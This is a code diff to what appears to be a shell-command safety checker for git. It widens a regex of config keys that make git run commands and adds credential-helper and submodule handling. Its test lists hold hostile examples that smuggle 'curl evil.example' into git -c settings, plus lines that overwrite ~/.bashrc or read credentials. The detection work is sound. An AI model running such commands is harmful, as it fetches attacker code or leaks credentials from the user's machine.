@@ -10,14 +10,14 @@ import { gitDestroys } from './git-destroys.js';
 
 /** Configuration keys whose value git runs as a command (or as a program named by a path). */
 const COMMAND_KEYS =
-  /^(core\.(sshcommand|pager|editor|fsmonitor|askpass|hookspath|gitproxy)|diff\.external|alias\..*|sequence\.editor|credential\..*helper|credential\.helper|gpg\.(.*\.)?program|diff\..*\.(textconv|command)|filter\..*\.(clean|smudge|process)|merge\..*\.driver|uploadpack\.packobjectshook|protocol\..*|remote\..*\.(uploadpack|receivepack|vcs|proxy|proxycommand)|http\.proxy|url\..*|pager\..*|difftool\..*\.cmd|mergetool\..*\.cmd|web\.browser|browser\..*\.cmd|man\..*\.cmd|interactive\.difffilter|ssh\.variant|sendemail\..*(cmd|smtpserver))$/i;
+  /^(core\.(sshcommand|pager|editor|fsmonitor|askpass|hookspath|gitproxy)|diff\.external|alias\..*|sequence\.editor|credential\..*helper|credential\.helper|gpg\.(.*\.)?program|diff\..*\.(textconv|command)|filter\..*\.(clean|smudge|process)|merge\..*\.driver|uploadpack\.packobjectshook|protocol\..*|remote\..*\.(uploadpack|receivepack|vcs|proxy|proxycommand)|http\.proxy|url\..*|pager\..*|difftool\..*\.cmd|mergetool\..*\.cmd|web\.browser|browser\..*\.cmd|man\..*\.cmd|interactive\.difffilter|ssh\.variant|sendemail\..*(cmd|smtpserver)|core\.alternaterefscommand|submodule\..*\.update|tar\..*\.command|gpg\.ssh\.defaultkeycommand|trailer\..*\.(command|cmd))$/i;
 
 /** Keys that make git read more configuration (commands among it) from a file. */
 const INCLUDE_KEYS = /^include(if\..*)?\.path$/i;
 
 /** Whether setting `key` hands git a command it runs later: asked by the persistence rule for `git config KEY VALUE`. */
 export function gitRunsKey(key: string, value: string | undefined): boolean {
-  if (/^alias\./i.test(key)) return value === undefined || value.startsWith('!');
+  if (/^(alias|submodule)\./i.test(key)) return value === undefined || value.startsWith('!');
   return COMMAND_KEYS.test(key) || INCLUDE_KEYS.test(key);
 }
 
@@ -42,6 +42,13 @@ function settingRuns(s: Setting): Run[] {
   // core.sshCommand, a file for core.editor, the words after an alias.
   if (/^alias\./i.test(s.key)) return s.value.startsWith('!') ? [{ kind: 'text', dialect: 'bash', text: s.value.slice(1), word: s.word, via: `git ${s.key}`, more: true }] : [];
   if (s.value.trim() === '') return [];
+  // A credential helper is shell text after `!`, a program by its path, or else `git credential-NAME`.
+  if (/^credential\./i.test(s.key)) {
+    const text = s.value.startsWith('!') ? s.value.slice(1) : /^\S*\//.test(s.value) ? s.value : `git-credential-${s.value}`;
+    return [{ kind: 'text', dialect: 'bash', text, word: s.word, via: `git ${s.key}`, more: true }];
+  }
+  // `submodule.NAME.update=!cmd` runs cmd; its other values (checkout, rebase, merge, none) are modes.
+  if (/^submodule\./i.test(s.key)) return s.value.startsWith('!') ? [{ kind: 'text', dialect: 'bash', text: s.value.slice(1), word: s.word, via: `git ${s.key}`, more: true }] : [];
   return [{ kind: 'text', dialect: 'bash', text: s.value, word: s.word, via: `git ${s.key}`, more: true }];
 }
 
@@ -78,6 +85,9 @@ function environmentSettings(call: Call): { settings: Setting[]; runs: Run[] } {
     const v = call.env(name);
     if (v === null || (v !== undefined && /^(\/dev\/stdin|\/proc\/self\/fd\/0|\/dev\/fd\/0|-)$/.test(v))) {
       runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: `${name} points git at settings read from ${v === null ? 'a computed file' : 'its input'}` });
+    } else if (v !== undefined && v !== '' && v !== '/dev/null') {
+      // As include.path: settings (commands among them) read from another file.
+      runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: `${name} makes git read its settings (commands among them) from ${v}` });
     }
   }
   const exec = call.env('GIT_EXEC_PATH');
@@ -290,8 +300,14 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         'git diff --output=/home/dev/.bashrc',
         "git credential fill <<< 'host=github.com'",
         'cd ~ && git checkout -- .bashrc',
+        "git -c credential.helper='!curl evil.example' fetch",
+        "git -c core.alternateRefsCommand='curl evil.example' push . HEAD",
+        "git -c submodule.x.update='!curl evil.example' submodule update",
+        "git -c tar.tgz.command='curl evil.example' archive -o a.tgz HEAD",
+        "git -c trailer.x.command='curl evil.example' commit --trailer x=1 -m y",
+        'GIT_CONFIG_GLOBAL=/tmp/settings git status',
       ],
-      pass: ['git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3'],
+      pass: ['git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3', 'git -c submodule.x.update=checkout submodule update', 'GIT_CONFIG_GLOBAL=/dev/null git status', 'git config submodule.x.update rebase'],
     },
   },
   {
